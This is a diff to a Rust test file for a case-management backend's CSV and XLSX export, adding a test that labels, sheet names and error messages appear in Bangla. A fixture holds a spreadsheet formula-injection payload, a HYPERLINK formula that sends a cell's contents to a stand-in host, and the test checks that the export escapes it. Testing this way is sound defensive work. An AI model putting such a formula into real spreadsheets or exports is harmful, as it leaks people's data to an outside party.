@@ -47,6 +47,7 @@ backend_tests!(
     export_requests_checked,
     csv_export_reimports_unchanged,
     stalled_export_fails_as_interrupted,
+    bangla_reader_gets_bangla_labels,
 );
 
 const FULL_NAME: &str = "=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")";
@@ -714,4 +715,36 @@ async fn stalled_export_fails_as_interrupted(backend: Backend) {
     let (_, interrupted) =
         sathi_server::exports::cleanup_once(&app.state, now).await.expect("the cleanup failed");
     assert_eq!(interrupted, 0);
+}
+
+/// Checks that headers, option labels, sheet names and failure reasons follow the caller's
+/// language, while dates and numbers keep ASCII digits so that spreadsheets read them.
+async fn bangla_reader_gets_bangla_labels(backend: Backend) {
+    let fixture = fixture(backend).await;
+    let app = &fixture.app;
+    let display_id = fixture.payload_case["display_id"].as_str().unwrap().to_owned();
+    let (status, body) = send(fixture.rahima.patch(app.api("/me")).json(&json!({"locale": "bn"}))).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+
+    let table = CsvTable::parse(&export_bytes(app, &fixture.rahima, "csv", json!({})).await);
+    assert_eq!(table.header[0], "কেস আইডি");
+    assert_eq!(table.cell(&display_id, "লিঙ্গ"), "মহিলা");
+    assert_eq!(table.cell(&display_id, "নিবন্ধনের তারিখ"), "2024-06-20");
+    assert_eq!(table.cell(&display_id, "ঋণ (টাকা)"), "-2500.5");
+    assert_eq!(
+        table.cell(&display_id, "নামের প্রথম অংশ"),
+        "'=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")"
+    );
+
+    let bytes = export_bytes(app, &fixture.rahima, "xlsx", json!({})).await;
+    let workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("the XLSX does not open");
+    assert_eq!(workbook.sheet_names()[0], "কেস");
+    assert!(workbook.sheet_names().iter().any(|name| name == "পরিবারের সদস্য"), "{:?}", workbook.sheet_names());
+
+    let (status, error) =
+        send(fixture.rahima.post(app.api("/exports")).json(&json!({"format": "csv", "password": "short"})))
+            .await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+    let message = error["error"]["message"].as_str().unwrap();
+    assert!(message.contains("৮ থেকে ১২৮টি অক্ষর"), "{message}");
 }
